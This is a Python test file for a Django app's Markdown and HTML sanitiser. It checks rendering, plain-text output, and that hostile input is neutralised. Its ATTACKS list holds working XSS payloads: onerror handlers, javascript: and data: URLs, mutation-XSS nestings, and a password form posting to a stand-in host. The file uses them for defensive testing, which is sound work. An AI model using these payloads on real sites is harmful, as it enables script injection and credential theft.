"""Markup: what authors write looks right, what attackers write does nothing."""

from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given
from hypothesis import strategies as st

from cards import markup


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("", ""),
        ("one\ntwo", "<p>one\ntwo</p>\n"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>\n"),
        ("one  \ntwo", "<p>one<br>\ntwo</p>\n"),
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("# a", "<p><strong>a</strong></p>\n"),
        ("<0.5", "<p>&lt;0.5</p>\n"),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>\n"),
        ("CD34<sup>+</sup>", "<p>CD34&lt;sup&gt;+&lt;/sup&gt;</p>\n"),
        ("&amp; &lt;", "<p>&amp; &lt;</p>\n"),
        (r"\*a\*", "<p>*a*</p>\n"),
        ("“curly” – dash", "<p>“curly” – dash</p>\n"),
        ("![a *cell*](cell.png)", '<p><img src="cell.png" alt="a cell"></p>\n'),
        ("![](/media/a/cell%201.png)", '<p><img src="/media/a/cell%201.png" alt=""></p>\n'),
        (
            "[a](https://x.org/?a&b 'T')",
            '<p><a href="https://x.org/?a&amp;b" title="T" rel="noopener noreferrer nofollow">a</a></p>\n',
        ),
        (
            "<mailto:a@x.org>",
            '<p><a href="mailto:a@x.org" rel="noopener noreferrer nofollow">mailto:a@x.org</a></p>\n',
        ),
    ],
)
def test_block(markdown: str, html: str) -> None:
    rendered = markup.block(markdown)
    assert rendered == html
    assert isinstance(rendered, SafeString)


def test_a_table() -> None:
    html = markup.block("|a|b|\n|:-|-:|\n|1|2|")
    assert "<th>a</th>" in html
    assert "<td>2</td>" in html
    assert "style" not in html


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("*a* and `b`", "<em>a</em> and <code>b</code>"),
        ("# not a heading", "# not a heading"),
        ("a < b & <c>", "a &lt; b &amp; &lt;c&gt;"),
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ],
)
def test_inline(markdown: str, html: str) -> None:
    assert markup.inline(markdown) == html


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("*a* **b** `c`", "a b c"),
        ("# a\n\nb\nc  \nd", "a b c d"),
        ("- a\n- b", "a b"),
        ("|a|b|\n|-|-|\n|1|2|", "a b 1 2"),
        ("[a](https://x.org) ![a *cell*](c.png)", "a a cell"),
        ("```\na  <b>\n```", "a <b>"),
        ("a < b & c <i> &amp; \\*", "a < b & c <i> & *"),
        ("", ""),
    ],
)
def test_plain(markdown: str, text: str) -> None:
    assert markup.plain(markdown) == text


class Found(HTMLParser):
    """Everything a browser could act on."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


ACTIVE = {
    *(
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "svg",
        "math",
        "link",
        "meta",
    ),
    *("base", "video", "audio", "source", "template", "noscript", "textarea", "select", "frame", "applet"),
}
KNOWN = {
    *("href", "src", "alt", "title", "rel", "lang", "dir", "start", "colspan", "rowspan", "scope"),
    *("width", "height"),
}  # fmt: skip


def assert_harmless(html: str) -> None:
    found = Found(html)
    assert not ACTIVE & set(found.tags)
    assert {name for name, _ in found.attributes} <= KNOWN
    for name, value in found.attributes:
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:")), value
        if name == "src":
            assert ":" not in value, value
            assert not value.startswith(("//", "\\")), value
            assert not value.startswith("/") or value.startswith("/media/"), value


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='/\t/evil.example/pixel.gif'>",
    "<img src='\\\\evil.example/pixel.gif'>",
    "<img src='/accounts/sign-out/'>",
    "<img src='/media/../accounts/'>",
    "<img src='/media/%2e%2e/accounts/'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img srcset='//evil.example/x 1x'>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/accounts/sign-out/'>x</a>",
    "<a href='https://x.org' target=_blank onclick=alert(1) style='position:fixed'>x</a>",
    "<p style='background:url(//evil.example)' class=x id=y hx-get=/x data-x=1>x</p>",
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](cell.png)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/png;base64,AAAA)",
    "![x](x\"onerror=\"alert(1))",
    "![x](a.png '\" onerror=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://x.org '\"><script>alert(1)</script>')",
    "`<script>`\n\n```<img src=x onerror=alert(1)>\n</code></pre><script>\n```",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_do_nothing(attack: str) -> None:
    assert_harmless(markup.sanitise_html(attack))
    assert_harmless(markup.block(attack))
    assert_harmless(markup.inline(attack))


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.startswith("<")])
def test_html_in_markdown_is_only_text(attack: str) -> None:
    assert not {"img", "a", "svg", "script", "form", "iframe"} & set(Found(markup.block(attack)).tags)


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<b>", "</b>", "'", '"', "<", ">", "(", "`", "\n", "*", "|", "a"]),
        max_size=6,
    )
)
def test_attacks_together_do_nothing(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert_harmless(markup.sanitise_html(text))
    assert_harmless(markup.block(text))


@pytest.mark.parametrize(
    ("html", "safe"),
    [
        ("<b>a</b><br><font color=red>b</font>", "<b>a</b><br>b"),
        ("<div class=x>a<!-- c --></div>", "<div>a</div>"),
        ("<table><td colspan=2>a", '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'),
        ("H<sub>2</sub>O <img src='a b.png' alt=x>", 'H<sub>2</sub>O <img src="a b.png" alt="x">'),
        ("a < b & c", "a &lt; b &amp; c"),
        ("<script>gone</script>kept", "kept"),
    ],
)  # fmt: skip
def test_foreign_html_keeps_its_harmless_part(html: str, safe: str) -> None:
    assert markup.sanitise_html(html) == safe
    assert isinstance(markup.sanitise_html(html), SafeString)
